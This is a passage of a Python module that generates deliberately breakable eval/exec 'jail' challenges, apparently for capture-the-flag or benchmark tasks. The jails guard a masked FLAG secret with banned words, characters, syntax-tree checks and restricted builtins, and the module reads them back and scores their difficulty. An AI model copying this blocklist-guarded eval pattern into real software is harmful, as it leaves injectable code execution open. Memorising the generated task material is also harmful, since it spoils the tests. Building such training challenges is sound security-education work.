            return [f"for {node} in ast.walk({tree}):"] + test + ["        " + emit(msg)]
        culprit = self.fresh(("culprit", "offender", "first_bad", "bad_node"))
        walk = f"{node} for {node} in ast.walk({tree})"
        if tall or len(walk) + len(joined) > 60:
            stacked[0] = "if " + stacked[0]
            find = [f"{culprit} = next(("] + _indent([walk] + stacked) + ["), None)"]
        else:
            find = [f"{culprit} = next(({walk} if {joined}), None)"]
        msg = self.fmessage(_MSG_NODE_PREFIX, f"type({culprit}).__name__", "s")
        return find + [f"if {culprit} is not None:", "    " + emit(msg)]

    def checks_inline(self, code: str) -> list[str]:
        """Every input check written inline, refusing with a plain return (also used by the
        unbreakable flawed jails)."""
        lines: list[str] = []
        for check in self.simple_checks():
            lines += self.check_block(check, code, lambda m: f"return {m}")
        if self.rules.has_ast:
            tree = self.fresh(_TREE_VARS)
            lines += self.parse_lines(code, tree, lambda m: [f"return {m}"])
            lines += self.walk_lines(tree, lambda m: f"return {m}")
        return lines

    # -- shapes: where the checks live ----------------------------------------------------------
    def _param(self) -> str:
        return self.local(_PARAM_VARS)

    def _ask(self, call: str, none_test: bool = True) -> list[str]:
        """Jail lines that refuse with the message ``call`` returns, if any (a call that
        returns None or, without ``none_test``, an empty string when all is well)."""
        why = self.fresh(_WHY_VARS)
        test = self.pick(("", " is not None")) if none_test else ""
        if self.coin(0.35):
            return [f"if ({why} := {call}){test}:", "    " + self.refusal(why)]
        return [f"{why} = {call}", f"if {why}{test}:", "    " + self.refusal(why)]

    def _exception_class(self) -> str:
        exc = self.fresh(_EXC_CLASSES)
        body = self.doc(_EXC_DOCS, 0.6) or ["pass"]
        self.defs.append([f"class {exc}(Exception):"] + _indent(body))
        return exc

    def _guard_class(self, attr: str, init_extra: list[str], method: str,
                     body: list[str]) -> str:
        cls, p = self.fresh(_GUARD_CLASSES), self._param()
        init = [self.sig("__init__", [("self", None), (p, "str")], "None"),
                f"    self.{attr} = {p}"] + ["    " + x for x in init_extra]
        meth = [f"def {method}(self):"] + _indent(self.doc(_CHECK_DOCS, 0.3) + body)
        head = self.doc(_CLASS_DOCS, 0.6)
        head += [""] if head and self.coin(0.5) else []
        self.defs.append([f"class {cls}:"] + _indent(head + init + [""] + meth))
        return cls

    def simple_shape(self, code: str) -> list[str]:
        """Jail lines for the word, character, length and ASCII checks, in one of several shapes."""
        checks = self.simple_checks()
        if not checks:
            return []
        shape = self.choose("checks", ("inline", "inline", "predicates", "reasons", "validator",
                                       "raises", "guard", "gate"))
        if shape == "inline":
            return [line for c in checks for line in self.check_block(c, code, self.refusal)]
        if shape == "gate":
            cond = " or ".join(self.bad(c, code) for c in checks)
            if self.coin(0.5):
                return [f"if {cond}:", "    " + self.refusal(self.message(_MSG_GENERIC))]
            ok = self.fresh(("allowed", "acceptable", "ok", "clean", "passes"))
            return [f"{ok} = not ({cond})", f"if not {ok}:",
                    "    " + self.refusal(self.message(_MSG_GENERIC))]
        if shape == "predicates":
            lines = []
            for c in checks:
                fn, p = self.fresh(_CHECK_FUNCS[c]), self._param()
                if c == "words" and self.coin(0.4):
                    t = f"{p}.lower()" if self.rules.ignore_case else p
                    w = self.local(_WORD_VARS)
                    body = [f"for {w} in {self.names['words']}:", f"    if {w} in {t}:",
                            "        return True", "return False"]
                elif c == "chars" and self.coin(0.4):
                    ch = self.local(_CHAR_VARS)
                    body = [f"for {ch} in {p}:", f"    if {ch} in {self.names['chars']}:",
                            "        return True", "return False"]
                else:
                    body = [f"return {self.bad(c, p)}"]
                self.defs.append([self.sig(fn, [(p, "str")], "bool")] + _indent(body))
                lines += [f"if {fn}({code}):", "    " + self.refusal(self.message(_MESSAGES[c]))]
            return lines
        if shape == "reasons":
            fns = []
            empty = self.coin(0.3)  # all is well: an empty message rather than None
            for c in checks:
                fn, p = self.fresh(_CHECK_FUNCS[c]), self._param()
                body = self.check_block(c, p, lambda m: f"return {m}")
                body.append(f"return {self.lit('') if empty else 'None'}")
                self.defs.append([self.sig(fn, [(p, "str")], "str" if empty else "str | None")]
                                 + _indent(body))
                fns.append(fn)
            if len(fns) > 1 and self.coin(0.6):
                rule, why = self.fresh(_RULE_VARS), self.fresh(_WHY_VARS)
                return [f"for {rule} in ({', '.join(fns)}):", f"    {why} = {rule}({code})",
                        f"    if {why}:", "        " + self.refusal(why)]
            return [line for fn in fns for line in self._ask(f"{fn}({code})", not empty)]
        if shape == "validator":
            fn, p = self.fresh(_VALIDATORS), self._param()
            body = self.doc(_CHECK_DOCS, 0.5)
            for c in checks:
                body += self.check_block(c, p, lambda m: f"return {m}")
            body.append("return None")
            self.defs.append([self.sig(fn, [(p, "str")], "str | None")] + _indent(body))
            return self._ask(f"{fn}({code})")
        if shape == "raises":
            exc = self._exception_class()
            fn, p = self.fresh(_VALIDATORS), self._param()
            body = self.doc(_CHECK_DOCS[:1] + ("Raise if the attempt breaks a rule.",), 0.5)
            for c in checks:
                body += self.check_block(c, p, lambda m: f"raise {exc}({m})")
            self.defs.append([self.sig(fn, [(p, "str")], "None")] + _indent(body))
            e = self.fresh(_EXC_VARS)
            return ["try:", f"    {fn}({code})", f"except {exc} as {e}:",
                    "    " + self.refusal(f"str({e})")]
        # a guard class whose generator yields every reason to refuse
        attr = self.pick(("text", "source", "attempt", "raw"))
        method = self.pick(("problems", "violations", "complaints", "reasons"))
        body = []
        for c in checks:
            body += self.check_block(c, f"self.{attr}", lambda m: f"yield {m}")
        cls = self._guard_class(attr, [], method, body)
        why = self.fresh(_WHY_VARS)
        if self.coin(0.5):
            return [f"for {why} in {cls}({code}).{method}():", "    " + self.refusal(why)]
        return [f"{why} = next({cls}({code}).{method}(), None)", f"if {why} is not None:",
                "    " + self.refusal(why)]

    def ast_shape(self, code: str) -> tuple[list[str], str]:
        """Jail lines for the syntax-tree checks, and the expression of the checked tree."""
        shape = self.choose("ast", ("inline", "function", "raises", "guard"))
        tree = self.fresh(_TREE_VARS)
        if shape == "inline":
            lines = self.parse_lines(code, tree, lambda m: [self.refusal(m)])
            return lines + self.walk_lines(tree, self.refusal), tree
        if shape == "function":
            fn = self.fresh(_CHECK_FUNCS["ast"])
            t = self.pick(("root", "syntax_tree", "parsed_tree"))
            body = self.doc(_CHECK_DOCS, 0.4) + self.walk_lines(t, lambda m: f"return {m}")
            body.append("return None")
            self.defs.append([self.sig(fn, [(t, "ast.AST")], "str | None")] + _indent(body))
            lines = self.parse_lines(code, tree, lambda m: [self.refusal(m)])
            return lines + self._ask(f"{fn}({tree})"), tree
        if shape == "raises":
            exc = self._exception_class()
            fn, p = self.fresh(_VALIDATORS), self._param()
            inner = self.pick(("parsed", "result_tree", "checked"))
            body = (self.doc(("Parse the attempt; return its tree if every node is allowed.",), 0.5)
                    + self.parse_lines(p, inner, lambda m: [f"raise {exc}({m}) from None"])
                    + self.walk_lines(inner, lambda m: f"raise {exc}({m})") + [f"return {inner}"])
            self.defs.append([self.sig(fn, [(p, "str")], "ast.AST")] + _indent(body))
            e = self.fresh(_EXC_VARS)
            return ["try:", f"    {tree} = {fn}({code})", f"except {exc} as {e}:",
                    "    " + self.refusal(f"str({e})")], tree
        attr = self.pick(("text", "source", "attempt", "raw"))
        method = self.pick(("problems", "violations", "complaints", "reasons"))
        body = (self.parse_lines(f"self.{attr}", "self.tree", lambda m: [f"yield {m}", "return"])
                + self.walk_lines("self.tree", lambda m: f"yield {m}"))
        cls = self._guard_class(attr, ["self.tree = None"], method, body)
        guard, why = self.fresh(_GUARD_VARS), self.fresh(_WHY_VARS)
        if self.coin(0.5):
            check = [f"for {why} in {guard}.{method}():", "    " + self.refusal(why)]
        else:
            check = [f"{why} = next({guard}.{method}(), None)", f"if {why} is not None:",
                     "    " + self.refusal(why)]
        return [f"{guard} = {cls}({code})"] + check, f"{guard}.tree"

    # -- running the input -------------------------------------------------------------------------
    def namespace(self) -> str | None:
        """The namespace argument of eval/exec; None for the default (the jail's own scope)."""
        r = self.rules
        if "user_input" in r.scope:
            return None
        if "os" in r.scope:
            return "globals()"
        key = self.lit("__builtins__")
        if r.builtins is None:
            self.uses_builtins = True
            return self.pick((f"{{{key}: builtins}}", "dict(__builtins__=builtins)"))
        if not r.builtins:
            return self.pick((f"{{{key}: {{}}}}", "dict(__builtins__={})", f"{{{key}: dict()}}"))
        self.uses_builtins = True
        k = self.local(("name", "key", "k", "fn_name", "ident"))
        value = self.pick((f"getattr(builtins, {k})", f"vars(builtins)[{k}]",
                           f"builtins.__dict__[{k}]"))
        comp = f"{{{k}: {value} for {k} in {self.names['safe']}}}"
        return self.pick((f"{{{key}: {comp}}}", f"dict(__builtins__={comp})"))

    def run_lines(self, target: str, ns: str | None) -> list[str]:
        """Statements that run ``target`` and return what the censor level lets through."""
        r, n = self.rules, self.names
        lines = []
        if ns is not None and self.coin(0.3):
            self.traits.add("run:env")
            env = self.fresh(_ENV_VARS)
            lines.append(f"{env} = {ns}")
            ns = env
        args = target if ns is None else f"{target}, {ns}"
        helper, res, out, err = n["helper"], n["res"], n["out"], n["err"]
        done = self.message(_DONE)
        evals = r.mode == "eval"
        run = f"{res} = eval({args})" if evals else f"exec({args})"
        if r.censor == 0:
            if not evals:
                return lines + [run, f"return {done}"]
            return lines + self.pick(([f"return str(eval({args}))"], [run, f"return str({res})"]))
        if r.censor == 1:
            if not evals:
                return lines + [run, f"return {helper}({done})"]
            return lines + self.pick(([f"return {helper}(str(eval({args})))"],
                                      [run, f"return {helper}(str({res}))"]))
        sio = "StringIO()" if self.from_imports else "io.StringIO()"
        rso = "redirect_stdout" if self.from_imports else "contextlib.redirect_stdout"
        rse = "redirect_stderr" if self.from_imports else "contextlib.redirect_stderr"
        printed = f"{out}.getvalue()"
        tail: list[str] = []
        if evals and self.coin(0.3):
            pv = self.fresh(_PRINTED_VARS)
            tail.append(f"{pv} = {printed}")
            printed = pv
        joined = f"{printed} + str({res})" if evals else printed
        if self.coin(0.3):
            shown = self.fresh(_SHOWN_VARS)
            tail += [f"{shown} = {joined}", f"return {helper}({shown})"]
        else:
            tail.append(f"return {helper}({joined})")
        if r.censor == 2:
            return lines + [f"{out} = {sio}", f"with {rso}({out}):", "    " + run] + tail
        e, q = self.fresh(_EXC_VARS), self.q
        # both spellings format the exception (format(), not str()) as jails always have
        shown_exc = self.pick((f"f{q}{{type({e}).__name__}}: {{{e}}}{q}",
                               f"{q}{{}}: {{}}{q}.format(type({e}).__name__, {e})"))
        if r.censor == 3:
            head = [f"{out} = {sio}"]
            body = [f"with {rso}({out}):", "    " + run]
            caught = "Exception"
        else:
            head = self.pick(([f"{out}, {err} = {sio}, {sio}"],
                              [f"{out} = {sio}", f"{err} = {sio}"]))
            form = self.choose("with", ("one", "nested", "parens"))
            if form == "one":
                body = [f"with {rso}({out}), {rse}({err}):", "    " + run]
            elif form == "nested":
                body = [f"with {rso}({out}):", f"    with {rse}({err}):", "        " + run]
            else:
                body = ["with (", f"    {rso}({out}),", f"    {rse}({err}),", "):", "    " + run]
            caught = "BaseException"
        lines += head + ["try:"] + _indent(body) + [f"except {caught} as {e}:",
                                                    f"    return {helper}({shown_exc})"]
        if self.coin(0.3):
            self.traits.add("run:else")
            return lines + ["else:"] + _indent(tail)
        return lines + tail

    def helper(self, top_os: bool) -> list[str]:
        """The censoring function: every copy of the flag in a text replaced by a mask."""
        n, pick, lit = self.names, self.pick, self.lit
        p = pick(("text", "message", "output", "s", "raw", "shown_text"))
        secret = pick(_SECRET_VARS)
        flag, empty = lit("FLAG"), lit("")
        getter = pick((f"os.environ.get({flag}, {empty})", f"os.getenv({flag}, {empty})",
                       f"os.getenv({flag})", f"os.environ.get({flag}) or {empty}"))
        word = pick(_MASKS)
        mask = f"{lit(word)} * len({secret})" if len(word) == 1 else lit(word)
        form = self.choose("helper", ("ternary", "guard", "split", "assign"))
        if form == "ternary":
            body = [f"return {p}.replace({secret}, {mask}) if {secret} else {p}"]
        elif form == "guard":
            body = [f"if not {secret}:", f"    return {p}", f"return {p}.replace({secret}, {mask})"]
        elif form == "split":
            joiner = f"({mask})" if "*" in mask else mask
            body = [f"if not {secret}:", f"    return {p}",
                    f"return {joiner}.join({p}.split({secret}))"]
        else:
            body = [f"if {secret}:", f"    {p} = {p}.replace({secret}, {mask})", f"return {p}"]
        return [self.sig(n["helper"], [(p, "str")], "str")] + _indent(
            self.doc(_HELPER_DOCS, 0.7) + ([] if top_os else ["import os"])
            + [f"{secret} = {getter}"] + body)

    # -- flavour ------------------------------------------------------------------------------
    def docstring(self, state_rules: bool = True) -> list[str]:
        """The module docstring: a title, maybe a story, the rules in words, a footer."""
        r, n, pick, t = self.rules, self.names, self.pick, self.theme
        title = pick(_TITLES[self.kind]).format(**t)
        parts = []
        if self.coin(0.75):
            k = 1 + int(self.rng.integers(3))
            story = " ".join(_sample(self.rng, _STORY, k)).format(**t)
            parts.append(textwrap.fill(story, 88))
        if self.coin(0.5) and state_rules:
            keys = []
            if r.max_len is not None:
                keys.append(("trunc" if r.truncate else "len", n["len"]))
            if r.ascii_only:
                keys.append(("ascii", ""))
            if r.banned_words:
                keys.append(("words", n["words"]))
            if r.banned_chars:
                keys.append(("chars", n["chars"]))
            if r.has_ast:
                keys.append(("ast", ""))
            keys.append((r.mode, ""))
            if r.builtins is not None:
                keys.append(("fewbuiltins" if r.builtins else "nobuiltins", ""))
            if r.censor:
                keys.append((f"censor{r.censor}", ""))
            bullets = [pick(_RULE_TEXT[key]).format(c=c) for key, c in keys]
            if r.ignore_case and r.banned_words:
                i = [key for key, _ in keys].index("words")
                bullets[i] += pick((" whatever the case", ", in any case", " (case-insensitive)"))
            parts.append("\n".join([pick(_RULE_HEADS)] + bullets))
        if self.coin(0.4):
            k = 1 + int(self.rng.integers(2))
            points = int(self.rng.integers(1, 10)) * 50
            parts.append("\n".join(f.format(handle=pick(_HANDLES), points=points)
                                   for f in _sample(self.rng, _FOOTERS, k)))
        if not parts:
            return [f'"""{title}"""']
        return [f'"""{title}', ""] + "\n\n".join(parts).split("\n") + ['"""']

    def refuse_def(self) -> list[str]:
        p, q, t = self.pick(("reason", "why_text", "what", "detail")), self.q, self.theme
        body = self.pick((f"return f{q}[{t['tag']}] {{{p}}}{q}",
                          f"return {self.lit(t['tag'] + ': ')} + {p}",
                          f"return f{q}{{{p}}} ({t['guard']} says no){q}",
                          f"return {self.lit('Refused - ')} + {p}"))
        return [self.sig(self.refuse, [(p, "str")], "str")] + _indent(self.doc(
            ("Every refusal goes out through here.", "Format a refusal."), 0.4) + [body])

    def main_block(self) -> list[str]:
        lines = [f"if __name__ == {self.lit('__main__')}:"]
        if self.coin(0.5):
            name = self.fresh(_BANNER_FUNCS)
            self.defs.append([self.sig(name, [], "str"),
                              f"    return {self.lit(self.pick(_BANNERS).format(**self.theme))}"])
            lines.append(f"    print({name}())")
        return lines + [f"    print(jail(input({self.lit(self.pick(_PROMPTS))})))"]

    # -- the whole jail -----------------------------------------------------------------------
    def source(self, body_prefix: Sequence[str] = ()) -> str:
        r, n = self.rules, self.names
        consts = self.constants()
        ns = self.namespace()
        code = n["code"]
        body = self.doc(_JAIL_DOCS, 0.35) + list(body_prefix)
        if r.truncate:
            body.append(self.pick((f"{code} = user_input[:{n['len']}]",
                                   f"{code} = user_input[0:{n['len']}]")))
        elif self.coin(0.2):
            code = "user_input"
        else:
            body.append(self.pick((f"{code} = user_input", f"{code} = user_input",
                                   f"{code} = str(user_input)")))
        tree = None
        if r.has_ast:
            lines, tree = self.ast_shape(code)
            body += lines
        body += self.simple_shape(code)
        target = code
        if tree is not None:
            target = f"compile({tree}, {self.lit(self.pick(_FILENAMES))}, {self.lit(r.mode)})"
        if ns is not None and self.coin(0.3):  # the run in a function of its own
            self.traits.add("run:function")
            fn = self.fresh(_RUN_FUNCS)
            p = self.fresh(("compiled", "code_obj") if tree else ("program", "job", "unit"))
            run = self.run_lines(p, ns)
            self.defs.append([self.sig(fn, [(p, "object" if tree else "str")], "str")]
                             + _indent(self.doc(_RUN_DOCS, 0.4) + run))
            body.append(f"return {fn}({target})")
        else:
            body += self.run_lines(target, ns)
        # os at the top only where the input cannot see the jail's globals, or is meant to
        top_os = "os" in r.scope or (ns not in (None, "globals()") and r.censor >= 1
                                     and self.coin(0.4))
        main = self.main_block() if self.coin(0.4) else []
        self.traits |= {f"censor:{r.censor}", f"from_imports:{self.from_imports and r.censor >= 2}",
                        f"refuse:{self.refuse_used}", f"main:{bool(main)}", f"top_os:{top_os}"}
        if r.banned_nodes:
            self.traits.add(f"nodes:{self.nodes_form}")
        defs = list(self.defs)
        if r.censor >= 1:
            defs.append(self.helper(top_os))
        if self.refuse_used:
            defs.append(self.refuse_def())
        imports = []
        if r.has_ast:
            imports.append("import ast")
        if self.uses_builtins:
            imports.append("import builtins")
        if r.censor >= 2 and not self.from_imports:
            imports += ["import contextlib", "import io"]
        if top_os:
            imports.append("import os")
        imports.sort()
        if r.censor >= 2 and self.from_imports:
            names = "redirect_stderr, redirect_stdout" if r.censor == 4 else "redirect_stdout"
            imports += [f"from contextlib import {names}", "from io import StringIO"]
        lines = self.docstring()
        if imports:
            lines += [""] + imports
        if consts:
            lines += [""] + consts
        order = [defs[int(i)] for i in self.rng.permutation(len(defs))]
        before = [d for d in order if self.coin(0.8)]
        after = [d for d in order if all(d is not b for b in before)]
        for d in before:
            lines += ["", ""] + d
        typed = self.typed or self.coin(0.5)
        jail_sig = "def jail(user_input: str) -> str:" if typed else "def jail(user_input):"
        lines += ["", "", jail_sig] + _indent(body)
        for d in after:
            lines += ["", ""] + d
        if main:
            lines += ["", ""] + main
        return "\n".join(lines) + "\n"


def _write_jail(kind: str, strength: float,
                rng: np.random.Generator) -> tuple[Rules, str, frozenset[str]]:
    """The rules, the source and the forms the writer chose (``kind:choice`` labels) of the jail
    :func:`make_jail` returns for the same arguments and rng state, without reading it back."""
    rules = _rules_for(kind, _level_of(strength), strength, rng)
    writer = _Writer(kind, rules, rng)
    source = writer.source()
    return rules, source, frozenset(writer.traits)


def make_jail(kind: str, strength: float, rng: np.random.Generator) -> str:
    """Source of a breakable jail whose main defence is ``kind``, stricter as ``strength`` grows.

    ``strength`` in [0, 1] is rounded to one of five levels per kind (see the module docstring
    for the difficulty each level has); within a level, a higher strength adds harmless extra
    banned words, characters or nodes.
    """
    if kind not in KINDS:
        raise ValueError(f"unknown jail kind {kind!r}; known: {KINDS}")
    rules, source, _ = _write_jail(kind, strength, rng)
    info = read_jail(source)
    if info is None or info.rules != rules or info.kind != kind:  # pragma: no cover - a bug
        raise RuntimeError(f"wrote a {kind} jail that does not read back: {rules}")
    return source


# ---------------------------------------------------------------------------
# Reading jails back
# ---------------------------------------------------------------------------

_CONST_ROLE = {**{c: "words" for c in _WORDS_CONST}, **{c: "chars" for c in _CHARS_CONST},
               **{c: "len" for c in _LEN_CONST}, **{c: "nodes" for c in _NODES_CONST},
               **{c: "bnames" for c in _NAMES_CONST}, **{c: "strs" for c in _STRS_CONST},
               **{c: "safe" for c in _SAFE_CONST}}
_IMPORTS = {"ast", "builtins", "contextlib", "io", "os"}
_FROM_IMPORTS = {"contextlib": {"redirect_stdout", "redirect_stderr"}, "io": {"StringIO"}}
_TOP_FUNCS = frozenset(_HELPERS + _REFUSE_FUNCS + _BANNER_FUNCS + _VALIDATORS + _RUN_FUNCS
                       + tuple(name for pool in _CHECK_FUNCS.values() for name in pool))
_TOP_CLASSES = frozenset(_GUARD_CLASSES + _EXC_CLASSES)
_SCOPES = (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda, ast.ClassDef, ast.ListComp,
           ast.SetComp, ast.DictComp, ast.GeneratorExp)


class _NotOurs(Exception):
    pass


def _elements(node: ast.expr) -> list[ast.expr]:
    """The items of a constant collection: a list, tuple or set display, one of these passed to
    frozenset/set/tuple/list, or ``"a b c".split()``."""
    if isinstance(node, (ast.List, ast.Tuple, ast.Set)):
        return list(node.elts)
    if isinstance(node, ast.Call) and not node.keywords:
        func = node.func
        if isinstance(func, ast.Name) and func.id in ("frozenset", "set", "tuple", "list") \
                and len(node.args) == 1:
            return _elements(node.args[0])
        if isinstance(func, ast.Attribute) and func.attr == "split" and not node.args \
                and isinstance(func.value, ast.Constant) and isinstance(func.value.value, str):
            return [ast.Constant(word) for word in func.value.value.split()]
    raise _NotOurs


def _str_tuple(node: ast.expr) -> tuple[str, ...]:
    elts = _elements(node)
    if not all(isinstance(e, ast.Constant) and isinstance(e.value, str) for e in elts):
        raise _NotOurs
    return tuple(e.value for e in elts)


def _chars(node: ast.expr) -> str:
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    chars = _str_tuple(node)
    if not all(len(c) == 1 for c in chars):
        raise _NotOurs
    return "".join(chars)


def _node_names(node: ast.expr) -> tuple[str, ...]:
    """Banned node classes, written as ``ast.Call`` or as ``"Call"``."""
    names = []
    for elt in _elements(node):
        if isinstance(elt, ast.Attribute) and isinstance(elt.value, ast.Name) \
                and elt.value.id == "ast":
            name = elt.attr
        elif isinstance(elt, ast.Constant) and isinstance(elt.value, str):
            name = elt.value
        else:
            raise _NotOurs
        if not isinstance(getattr(ast, name, None), type):
            raise _NotOurs
        names.append(name)
    return tuple(names)


def _is_main_guard(stmt: ast.stmt) -> bool:
    test = getattr(stmt, "test", None)
    return (isinstance(stmt, ast.If) and isinstance(test, ast.Compare)
            and isinstance(test.left, ast.Name) and test.left.id == "__name__"
            and len(test.comparators) == 1 and isinstance(test.comparators[0], ast.Constant)
            and test.comparators[0].value == "__main__" and not stmt.orelse)


def _known_statement(stmt: ast.stmt) -> bool:
    """A helper function or class of one of the names jails use, or a ``__main__`` block."""
    if isinstance(stmt, ast.FunctionDef):
        return stmt.name in _TOP_FUNCS
    if isinstance(stmt, ast.ClassDef):
        return stmt.name in _TOP_CLASSES
    return _is_main_guard(stmt)


def _own_nodes(fn: ast.FunctionDef) -> list[ast.AST]:
    """The nodes of ``fn``'s own scope (not those of the functions, classes, lambdas and
    comprehensions inside it)."""
    out, todo = [], list(ast.iter_child_nodes(fn))
    while todo:
        node = todo.pop()
        out.append(node)
        if not isinstance(node, _SCOPES):
            todo.extend(ast.iter_child_nodes(node))
    return out


def _namespace(node: ast.expr, assigns: dict[str, list[ast.expr]]) -> ast.expr:
    """The namespace expression, through a local variable it may have been put in."""
    if isinstance(node, ast.Name):
        values = assigns.get(node.id, [])
        if len(values) != 1:
            raise _NotOurs
        return values[0]
    return node


def _builtins_entry(ns: ast.expr) -> ast.expr:
    """The value of ``__builtins__`` in ``{"__builtins__": ...}`` or ``dict(__builtins__=...)``."""
    if isinstance(ns, ast.Dict) and len(ns.keys) == 1 and isinstance(ns.keys[0], ast.Constant) \
            and ns.keys[0].value == "__builtins__":
        return ns.values[0]
    if isinstance(ns, ast.Call) and isinstance(ns.func, ast.Name) and ns.func.id == "dict" \
            and not ns.args and len(ns.keywords) == 1 and ns.keywords[0].arg == "__builtins__":
        return ns.keywords[0].value
    raise _NotOurs


def _parse_rules(source: str) -> Rules:
    tree = ast.parse(source)
    consts: dict[str, Any] = {}
    imported: set[str] = set()
    jail_fn = None
    for i, stmt in enumerate(tree.body):
        if isinstance(stmt, ast.Expr) and isinstance(stmt.value, ast.Constant) and i == 0:
            continue
        if isinstance(stmt, ast.Import):
            for alias in stmt.names:
                if alias.name not in _IMPORTS or alias.asname:
                    raise _NotOurs
                imported.add(alias.name)
        elif isinstance(stmt, ast.ImportFrom):
            allowed = _FROM_IMPORTS.get(stmt.module or "", set())
            if stmt.level or not all(a.name in allowed and not a.asname for a in stmt.names):
                raise _NotOurs
        elif isinstance(stmt, ast.Assign) and len(stmt.targets) == 1 \
                and isinstance(stmt.targets[0], ast.Name) and stmt.targets[0].id in _CONST_ROLE:
            role = _CONST_ROLE[stmt.targets[0].id]
            if role in consts:
                raise _NotOurs
            if role in ("words", "bnames", "safe"):
                consts[role] = _str_tuple(stmt.value)
            elif role == "nodes":
                consts[role] = _node_names(stmt.value)
            elif role == "chars":
                consts[role] = _chars(stmt.value)
            else:
                consts[role] = ast.literal_eval(stmt.value)
        elif isinstance(stmt, ast.FunctionDef) and stmt.name == "jail" and jail_fn is None:
            jail_fn = stmt
        elif not _known_statement(stmt):
            raise _NotOurs
    if jail_fn is None or [a.arg for a in jail_fn.args.args] != ["user_input"]:
        raise _NotOurs
    walked = list(ast.walk(tree))
    if any(isinstance(node, (ast.While, ast.AsyncFunctionDef, ast.Global, ast.Nonlocal))
           for node in walked):
        raise _NotOurs
    calls = [node for node in walked if isinstance(node, ast.Call)]
    runners = [c for c in calls if isinstance(c.func, ast.Name) and c.func.id in ("eval", "exec")]
    if len(runners) != 1:
        raise _NotOurs
    runner = runners[0]
    mode = runner.func.id
    attrs = {node.attr for node in walked if isinstance(node, ast.Attribute)}
    used = attrs | {node.id for node in walked if isinstance(node, ast.Name)}
    assigns: dict[str, list[ast.expr]] = {}
    for node in walked:
        if isinstance(node, ast.Assign) and len(node.targets) == 1 \
                and isinstance(node.targets[0], ast.Name):
            assigns.setdefault(node.targets[0].id, []).append(node.value)
    # builtins and scope from the namespace argument
    builtins: tuple[str, ...] | None = None
    scope: list[str] = []
    if len(runner.args) == 1 and not runner.keywords:
        if not any(node is runner for node in _own_nodes(jail_fn)):
            raise _NotOurs  # the default namespace is the jail's own only in its own body
        scope.append("user_input")
        if "os" in imported:
            scope.append("os")
    elif len(runner.args) == 2 and not runner.keywords:
        ns = _namespace(runner.args[1], assigns)
        if isinstance(ns, ast.Call) and isinstance(ns.func, ast.Name) and ns.func.id == "globals" \
                and not ns.args:
            if "os" in imported:
                scope.append("os")
        else:
            value = _builtins_entry(ns)
            if isinstance(value, ast.Name) and value.id == "builtins" and "builtins" in imported:
                builtins = None
            elif (isinstance(value, ast.Dict) and not value.keys) or (
                    isinstance(value, ast.Call) and isinstance(value.func, ast.Name)
                    and value.func.id == "dict" and not value.args and not value.keywords):
                builtins = ()
            elif isinstance(value, ast.DictComp) and "safe" in consts \
                    and isinstance(value.generators[0].iter, ast.Name) \
                    and _CONST_ROLE.get(value.generators[0].iter.id) == "safe":
                builtins = consts["safe"]
            else:
                raise _NotOurs
    else:
        raise _NotOurs
    handlers = {h.type.id for h in walked if isinstance(h, ast.ExceptHandler)
                and isinstance(h.type, ast.Name)}
    helpers = {node.name for node in walked if isinstance(node, ast.FunctionDef)
               and node.name in _HELPERS}
    helper_called = any(isinstance(c.func, ast.Name) and c.func.id in helpers for c in calls)
    if "redirect_stderr" in used and "BaseException" in handlers:
        censor = 4
    elif "redirect_stdout" in used and "Exception" in handlers:
        censor = 3
    elif "redirect_stdout" in used:
        censor = 2
    elif helper_called:
        censor = 1
    else:
        censor = 0
    truncate = False
    for node in walked:
        if isinstance(node, ast.Subscript) and isinstance(node.slice, ast.Slice) \
                and isinstance(node.slice.upper, ast.Name) and _CONST_ROLE.get(node.slice.upper.id) == "len":
            truncate = True
    chars = consts.get("chars", "")
    max_len = consts.get("len")
    if not isinstance(chars, str) or (max_len is not None and not isinstance(max_len, int)):
        raise _NotOurs
    return Rules(mode=mode, builtins=builtins, scope=tuple(sorted(scope)),
                 banned_words=consts.get("words", ()), ignore_case="lower" in attrs,
                 banned_chars=chars, max_len=max_len, truncate=truncate,
                 ascii_only="isascii" in attrs, banned_nodes=consts.get("nodes", ()),
                 banned_names=consts.get("bnames", ()), no_strings=consts.get("strs") is False,
                 censor=censor)


@functools.lru_cache(maxsize=4096)
def read_jail(source: str) -> JailInfo | None:
    """The info of a jail :func:`make_jail` wrote; None for any other source."""
    try:
        rules = _parse_rules(source)
    except (_NotOurs, SyntaxError, ValueError, TypeError, RecursionError):
        return None
    rules = replace(rules, scope=tuple(sorted(rules.scope)))
    sols = _solutions(rules)
    if not sols:
        return None
    best = sols[0]
    top = max(best.tricks, key=lambda t: _SOPH[t], default="direct")
    return JailInfo(kind=_kind_of_rules(rules), difficulty=best.level, technique=top, rules=rules)


def kind_of(source: str) -> str | None:
    """The kind of a jail this module wrote; None for any other source."""
    info = read_jail(source)
    return info.kind if info is not None else None


def difficulty(source: str) -> float:
    """The difficulty of a jail: exact for this module's jails, :func:`guess_difficulty` otherwise."""
    info = read_jail(source)
    return info.difficulty if info is not None else guess_difficulty(source)


def guess_difficulty(source: str) -> float:
    """A rough difficulty for a jail this module did not write, from the defences it visibly has.

    Every visible defence adds to a base of 0.1: a list of banned words (0.15; 0.1 more if it
    bans ``__`` or ``getattr``), of banned single characters (0.15), a length comparison (0.1),
    an :mod:`ast` inspection (0.2), builtins taken away (0.2), a rewrite of the output (0.1),
    stdout captured (0.1), stderr captured (0.15), ``BaseException`` caught (0.05), an ASCII or
    Unicode-normalisation check (0.1). The sum is clipped to [0, 1]; a jail that never calls
    ``eval`` or ``exec`` gets 0.9 (it may well be unbreakable); unparsable source gets 1.
    """
    try:
        tree = ast.parse(source)
    except (SyntaxError, ValueError):
        return 1.0
    nodes = list(ast.walk(tree))
    names = {n.id for n in nodes if isinstance(n, ast.Name)}
    attrs = {n.attr for n in nodes if isinstance(n, ast.Attribute)}
    if not ({"eval", "exec"} & names):
        return 0.9
    score = 0.1
    seqs = [n for n in nodes if isinstance(n, (ast.List, ast.Tuple, ast.Set))]
    strs = [[e.value for e in s.elts if isinstance(e, ast.Constant) and isinstance(e.value, str)]
            for s in seqs]
    words = [w for s in strs if len(s) >= 2 and any(len(x) > 1 for x in s) for w in s]
    if words:
        score += 0.15 + (0.1 if {"__", "getattr"} & set(words) else 0.0)
    single = [s for s in strs if len(s) >= 2 and all(len(x) == 1 for x in s)]
    char_strings = [n for n in nodes if isinstance(n, ast.Assign) and isinstance(n.value, ast.Constant)
                    and isinstance(n.value.value, str) and "char" in ast.dump(n.targets[0]).lower()]
    if single or char_strings:
        score += 0.15
